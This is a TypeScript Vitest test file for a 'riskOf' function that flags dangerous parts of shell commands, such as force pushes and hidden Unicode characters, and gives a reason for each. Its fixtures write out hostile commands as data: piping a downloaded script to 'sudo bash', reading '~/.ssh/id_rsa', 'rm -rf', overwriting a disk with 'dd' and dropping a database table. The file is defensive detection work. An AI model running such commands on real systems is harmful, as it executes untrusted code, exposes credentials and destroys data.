import { describe, expect, test } from 'vitest'

import { riskOf } from './risk'

const marked = (command: string) => riskOf(command).parts.filter(({ isRisky }) => isRisky).map(({ text }) => text)

describe('riskOf', () => {
  test.each([
    ['git push --force origin main', ['--force', 'main'], ['overwrites']],
    ['git push -f', ['-f'], ['overwrites']],
    ['sudo rm -rf /var/lib/x', ['sudo', 'rm -rf'], ['rights', 'deletes']],
    ['curl -s https://x.dev/i | sudo bash', ['| sudo bash'], ['runs', 'rights']],
    ['git reset --hard HEAD~3', ['git reset --hard'], ['discards']],
    ['psql -c "drop table orders"', ['drop table'], ['database']],
    ['dd if=a of=/dev/sda', ['dd if=a of=/dev/sda'], ['disk']],
    ['git commit --no-verify -m x', ['--no-verify'], ['skips']],
    ['cat ~/.ssh/id_rsa', ['~/.ssh/id_rsa'], ['secrets']],
  ])('%s', (command, texts, reasons) => {
    expect(marked(command)).toEqual(texts)
    expect([...riskOf(command).reasons].sort()).toEqual([...reasons].sort())
  })

  test.each(['npm test', 'git push origin feature', 'grep -rm 1 form src', 'ls > /dev/null', 'farm build', 'cat .env.example'])(
    '%s has no marks',
    (command) => {
      expect(riskOf(command)).toEqual({ parts: [{ text: command, isRisky: false }], reasons: [] })
    },
  )

  test('shows what cannot be seen', () => {
    expect(riskOf('echo a\u202eb').parts).toEqual([
      { text: 'echo a', isRisky: false },
      { text: '\\u202e', isRisky: true },
      { text: 'b', isRisky: false },
    ])
    expect(riskOf('echo a\u200bb').reasons).toEqual(['hidden'])
  })

  test('nothing is lost or doubled', () => {
    const command = 'sudo rm -rf --force .env | bash\n\tgit push --force origin main'
    expect(riskOf(command).parts.map(({ text }) => text).join('')).toBe(command)
  })
})
